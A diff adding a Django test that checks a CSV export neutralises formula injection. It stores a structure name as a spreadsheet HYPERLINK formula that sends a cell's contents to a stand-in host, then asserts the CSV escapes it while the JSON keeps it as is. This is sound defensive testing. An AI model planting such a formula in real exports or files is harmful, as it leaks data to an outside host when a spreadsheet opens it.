@@ -34,3 +34,19 @@ def test_a_record_the_schema_refuses_is_reported_not_exported(lot, structure_a):
         Structure.objects.filter(pk=structure_a.pk).update(nom="AB")  # under the schema's 3 characters
         valides, erreurs = data_inclusion.structures(lot, Structure.objects.all())
     assert valides == [] and "nom" in erreurs[0][1]
+
+
+def test_the_data_inclusion_csv_neutralises_a_formula(client, alice, lot, structure_a2):
+    """A structure named like a formula is exported as text: a spreadsheet opening the CSV runs nothing."""
+    formule = '=HYPERLINK("https://exemple.fr/?q="&A1;"Cliquez")'
+    with tenant_context(lot):
+        Structure.objects.filter(pk=structure_a2.pk).update(nom=formule, telephone="+33 5 65 00 00 00")
+    client.force_login(alice)
+    reponse = client.get("/reseau/export/data-inclusion.csv")
+    assert reponse["Content-Disposition"].startswith("attachment;")
+    lignes = list(csv.DictReader(io.StringIO(reponse.content.decode())))
+    ccas = next(ligne for ligne in lignes if ligne["id"] == f"relais-lot--{structure_a2.pk}")
+    assert ccas["nom"] == "'" + formule
+    assert not any(v.startswith(("=", "+", "-", "@")) for ligne in lignes for v in ligne.values())
+    json_ = client.get("/reseau/export/data-inclusion.json").json()  # JSON is data, not a spreadsheet: as is
+    assert formule in {d["nom"] for d in json_}
